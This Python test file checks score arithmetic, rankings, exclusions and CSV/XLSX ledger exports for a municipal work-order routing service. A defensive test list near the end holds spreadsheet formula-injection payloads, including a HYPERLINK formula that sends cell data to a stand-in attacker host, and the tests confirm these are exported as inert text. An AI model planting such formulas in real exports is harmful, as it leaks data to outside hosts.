"""Score arithmetic on a hand-built set of work orders, rankings, exclusions and the ledger export."""

import csv
import io
import uuid
from datetime import UTC, datetime

import openpyxl
import pytest

from services.routing import scores
from services.routing.models import WorkOrder
from shared.ids import unit_id

from .conftest import GRID1_CODE, STREET, URBAN

GRID2 = "510107001001002"
T = datetime(2026, 10, 12, 3, 0, tzinfo=UTC)


def order(unit_code, *, period="2026-10", status="closed", role="lead", excluded=False, sign_late=False,
          contact_late=False, resolved=True, result_late=False, evaluated=None, solved=None, satisfaction=None,
          street=STREET, category="env.garbage"):
    return WorkOrder(id=str(uuid.uuid4()), case_id=str(uuid.uuid4()), case_no="2026-000001", unit_id=unit_id(unit_code),
                     street_id=unit_id(street) if street else None, category=category, urgency="一般",
                     role=role, status=status, seq=1, rule="测试", period=period, created_at=T, updated_at=T,
                     sign_late=sign_late, contact_late=contact_late, resolved_at=T if resolved else None,
                     result_late=result_late if resolved else None, evaluated=evaluated, solved=solved,
                     satisfaction=satisfaction, excluded=excluded, exclusion_reason="诉求不合理" if excluded else None)


@pytest.fixture
def data(h):
    with h.rt.uow() as s:
        s.add_all([
            # grid 1: four counted orders
            order(GRID1_CODE, evaluated=True, solved=True, satisfaction="满意"),
            order(GRID1_CODE, contact_late=True, result_late=True, evaluated=True, solved=False,
                  satisfaction="基本满意"),
            order(GRID1_CODE, evaluated=False),  # no answer in time: not evaluated, never satisfied
            order(GRID1_CODE, status="dispatched", sign_late=None, contact_late=None, resolved=False),
            # never counted: excluded with a reason, returned, assisting, another month
            order(GRID1_CODE, excluded=True, sign_late=True, evaluated=True, solved=False, satisfaction="不满意"),
            order(GRID1_CODE, status="returned", sign_late=True),
            order(GRID1_CODE, role="assist", sign_late=True),
            order(GRID1_CODE, period="2026-09", sign_late=True),
            # grid 2: one
            order(GRID2, evaluated=True, solved=True, satisfaction="不满意"),
            # a department, the case located outside any street; not evaluated yet
            order(URBAN, street=None, category="facility.road"),
        ])
    return h


def by_code(rows):
    return {r["code"]: r for r in rows}


def test_rates_and_composite_per_unit(data):
    rows = by_code(data.client.get("/routing/v1/scores", params={"period": "2026-10"},
                                   headers=data.headers("supervisor")).json()["rows"])
    g1 = rows[GRID1_CODE]
    # The order still within its clocks (dispatched, not signed) is neither a response nor a miss yet.
    assert g1["counts"] == {"dispatched": 4, "responded": 2, "response_decided": 3, "evaluated": 2, "solved": 1,
                            "satisfied": 2, "completed": 3, "on_time": 2, "contact_denied": 0, "whistle_calls": 0,
                            "whistle_on_time": 0, "rating_responses": 0}
    assert g1["rates"] == {"response": 66.67, "resolution": 50.0, "satisfaction": 100.0, "completion": 75.0,
                           "on_time_completion": 50.0, "whistle_report": None, "resident_rating": None}
    assert g1["composite"] == 72.5  # (30×66.67 + 35×50 + 35×100) / 100
    assert rows[GRID2]["composite"] == 65.0  # (30×100 + 35×100 + 35×0) / 100
    # No evaluation yet: resolution and satisfaction are unknown, and only the response weight counts.
    assert rows[URBAN]["rates"]["resolution"] is None and rows[URBAN]["composite"] == 100.0


def test_a_quarter_or_a_year_adds_up_its_months(data):
    def grid1(period):
        r = data.client.get("/routing/v1/scores", params={"period": period}, headers=data.headers("supervisor"))
        assert r.status_code == 200, r.text
        return by_code(r.json()["rows"]).get(GRID1_CODE)

    # Q4 holds October only; the year holds October and the September order too.
    assert grid1("2026-Q4")["counts"]["dispatched"] == 4 and grid1("2026-Q4")["composite"] == 72.5
    assert grid1("2026-H2")["counts"]["dispatched"] == 5
    assert grid1("2026")["counts"]["dispatched"] == 5 and grid1("2026")["rates"]["response"] == 50.0  # 2 of 4 decided
    assert grid1("2026-Q3")["counts"]["dispatched"] == 1
    assert grid1("2025") is None
    ledger = data.client.get("/routing/v1/ledger", params={"period": "2026-Q3"}, headers=data.headers("supervisor"))
    assert ledger.status_code == 200 and len(ledger.text.strip().splitlines()) == 2  # the header and September


def test_whistle_reports_are_scored_for_the_departments_called(data):
    from datetime import timedelta

    from services.routing.models import Whistle

    called = datetime(2026, 10, 12, 2, 0, tzinfo=UTC)  # 10:00 in Beijing
    police = unit_id("510107900002000")
    with data.rt.uow() as s:
        s.add_all([
            Whistle(work_order_id="wo-1", department_unit_id=unit_id(URBAN), called_by="u-street-dispatcher-1",
                    called_at=called, deadline=called + timedelta(minutes=30),
                    reported_at=called + timedelta(minutes=10), late=False),
            Whistle(work_order_id="wo-2", department_unit_id=unit_id(URBAN), called_by="u-street-dispatcher-1",
                    called_at=called, deadline=called + timedelta(minutes=30),
                    reported_at=called + timedelta(minutes=50), late=True),
            # never answered: not on time
            Whistle(work_order_id="wo-3", department_unit_id=police, called_by="u-street-dispatcher-1",
                    called_at=called, deadline=called + timedelta(minutes=30)),
            # another month: not counted in October
            Whistle(work_order_id="wo-4", department_unit_id=police, called_by="u-street-dispatcher-1",
                    called_at=datetime(2026, 9, 30, 15, 0, tzinfo=UTC), deadline=called, late=False,
                    reported_at=called),
        ])
    rows = by_code(data.client.get("/routing/v1/scores", params={"period": "2026-10", "group_by": "department"},
                                   headers=data.headers("supervisor")).json()["rows"])
    urban, police_row = rows[URBAN], rows["510107900002000"]
    assert (urban["counts"]["whistle_calls"], urban["counts"]["whistle_on_time"]) == (2, 1)
    assert urban["rates"]["whistle_report"] == 50.0
    assert urban["composite"] == 87.5  # (30×100 + 10×50) / 40: no evaluation yet
    assert police_row["counts"]["dispatched"] == 0 and police_row["rates"]["whistle_report"] == 0.0
    assert police_row["composite"] == 0.0


def test_street_and_category_groups_and_the_ranking(data):
    with data.rt.uow() as s:
        street = by_code(scores.scores(s, "2026-10", "street"))[STREET]
        assert street["counts"]["dispatched"] == 5
        assert street["rates"]["response"] == 75.0 and street["rates"]["resolution"] == 66.67  # 3 of 4 decided
        assert street["composite"] == 69.17
        cats = by_code(scores.scores(s, "2026-10", "category"))
        assert cats["env.garbage"]["counts"]["dispatched"] == 5 and cats["facility.road"]["counts"]["dispatched"] == 1
        # Configurable weights: response alone.
        only = by_code(scores.scores(s, "2026-10", "unit", {"response": 100, "resolution": 0, "satisfaction": 0}))
        assert only[GRID1_CODE]["composite"] == 66.67
    r = data.client.get("/routing/v1/rankings", params={"period": "2026-10", "level": "department"},
                        headers=data.headers("supervisor")).json()
    # One scored order is below the minimum (scoring.json min_scored_orders): listed, not ranked.
    assert [(x["rank"], x["ranked"], x["code"]) for x in r["rows"]] == [(None, False, URBAN)]
    r = data.client.get("/routing/v1/rankings", params={"period": "2026-13"}, headers=data.headers("supervisor"))
    assert r.status_code == 422 and r.json()["error"]["code"] == "scores.bad_period"


def test_an_exclusion_needs_a_reason_and_a_supervisor_and_is_recorded(h):
    oid = h.lead(h.submit())["id"]
    assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {}).json()["error"]["field"] == "reason"
    assert h.post(f"/work-orders/{oid}/exclusion", "grid", {"reason": "诉求不合理"}).status_code == 403
    r = h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": "诉求人要求超出政策范围"})
    assert r.json()["excluded"] and r.json()["exclusion_reason"] == "诉求人要求超出政策范围"
    entry = [t for t in h.get(oid)["timeline"] if t["kind"] == "excluded"][0]
    assert entry["actor_id"] == "u-supervisor-1"


def test_the_ledger_exports_csv_and_xlsx_with_filters(data):
    headers = data.headers("supervisor")
    r = data.client.get("/routing/v1/ledger", params={"format": "csv", "period": "2026-10"}, headers=headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["诉求编号", "工单编号"] and len(rows) == 1 + 9
    assert "u-resident" not in r.text
    r = data.client.get("/routing/v1/ledger", params={"format": "xlsx", "period": "2026-10", "unit_code": GRID2},
                        headers=headers)
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    values = list(sheet.values)
    assert values[0][0] == "诉求编号" and len(values) == 2 and values[1][3] == GRID2
    r = data.client.get("/routing/v1/ledger", params={"format": "pdf"}, headers=headers)
    assert r.status_code == 422 and r.json()["error"]["code"] == "ledger.bad_format"
    assert data.client.get("/routing/v1/ledger", headers=data.headers("grid")).status_code == 403


def test_the_ledger_is_bounded_by_a_row_limit_and_says_when_it_cut(h):
    for _ in range(3):
        h.submit()
    headers = h.headers("supervisor")
    r = h.client.get("/routing/v1/ledger", params={"limit": 2}, headers=headers)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 1 + 2 and r.headers["x-ledger-truncated"] == "true"
    r = h.client.get("/routing/v1/ledger", params={"limit": 3}, headers=headers)
    assert len(list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))) == 4
    assert r.headers["x-ledger-truncated"] == "false"
    r = h.client.get("/routing/v1/ledger", params={"limit": 10**9}, headers=headers)
    assert r.status_code == 422 and r.json()["error"]["field"] == "limit"


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A2,"点此查看")', "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_ledger_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text(h, fmt):
    """Review of issue 11, finding 9: an exclusion reason `=HYPERLINK(...)` was exported verbatim
    (and the XLSX stored it as a live formula)."""
    for reason in FORMULAS:
        oid = h.lead(h.submit())["id"]
        assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": reason}).status_code == 200
    r = h.client.get("/routing/v1/ledger", params={"format": fmt}, headers=h.headers("supervisor"))
    assert r.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        # (XML reads a carriage return back as a line feed)
        rows = [[v.replace("\n", "\r") if isinstance(v, str) else v for v in row] for row in sheet.values]
    column = rows[0].index("不计入原因")
    assert sorted(row[column] for row in rows[1:]) == sorted("'" + reason for reason in FORMULAS)


def test_a_spreadsheet_cell_is_neutralised_only_when_it_would_start_a_formula():
    from shared.exports import cell

    for value in FORMULAS:
        assert cell(value) == "'" + value
    for value in ("诉求不合理", "2026-10-12 11:00", "510107001001001", "a=b", "1+1", "", None, 3, True):
        assert cell(value) == value
    # Characters an XLSX cannot hold are dropped, so they neither break the export nor hide a formula.
    assert cell("\x0b=1+1") == "'=1+1" and cell("ok\x01") == "ok"


def test_a_control_character_typed_into_a_reason_does_not_break_the_xlsx_ledger(h):
    """An XLSX cannot hold most control characters: the export answered 500 for one in a reason. A reason
    typed now is refused with one (shared.fields.Meaningful); one stored before is still exported."""
    oid = h.lead(h.submit())["id"]
    assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": "重复\x0b诉求"}).status_code == 422
    assert h.post(f"/work-orders/{oid}/exclusion", "supervisor", {"reason": "重复诉求"}).status_code == 200
    with h.rt.uow() as s:
        s.get(WorkOrder, oid).exclusion_reason = "重复\x0b诉求"
    r = h.client.get("/routing/v1/ledger", params={"format": "xlsx"}, headers=h.headers("supervisor"))
    assert r.status_code == 200
    values = list(openpyxl.load_workbook(io.BytesIO(r.content)).active.values)
    assert values[1][values[0].index("不计入原因")] == "重复诉求"


def test_an_order_whose_clock_still_runs_is_no_miss_of_the_response_rate_until_the_clock_runs_out(h):
    running = order(GRID2, status="signed", contact_late=None, resolved=False)  # signed in time, contact due
    with h.rt.uow() as s:
        s.add_all([order(GRID2), running])

    def response():
        with h.rt.uow() as s:
            return by_code(scores.scores(s, "2026-10", "unit"))[GRID2]["rates"]["response"]

    assert response() == 100.0  # one responded, one not yet decided
    with h.rt.uow() as s:
        s.get(WorkOrder, running.id).contact_late = True  # the contact clock ran out
    assert response() == 50.0


def test_an_unknown_status_filter_of_the_ledger_is_refused_naming_it(data):
    r = data.client.get("/routing/v1/ledger", params={"status": "bogus"}, headers=data.headers("supervisor"))
    assert r.status_code == 422 and r.json()["error"]["field"] == "status", r.text
    r = data.client.get("/routing/v1/ledger", params={"status": "returned", "period": "2026-10"},
                        headers=data.headers("supervisor"))
    assert r.status_code == 200 and len(list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))) == 2
